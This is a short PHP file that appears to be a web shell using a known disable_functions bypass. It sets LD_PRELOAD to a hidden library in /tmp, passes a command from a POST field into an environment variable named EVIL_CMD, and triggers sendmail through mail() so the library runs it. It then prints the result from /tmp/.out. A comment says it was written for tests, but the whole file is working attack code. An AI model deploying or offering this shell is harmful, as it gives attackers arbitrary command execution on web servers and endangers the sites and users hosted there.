<?php
// disable_functions bypass: sendmail started by mail() loads a library (written for the tests)
$lib = '/tmp/.cache.so';
putenv('LD_PRELOAD=' . $lib);
putenv('EVIL_CMD=' . $_POST['c']);
mail('a@example.com', '', '', '');
echo @file_get_contents('/tmp/.out');
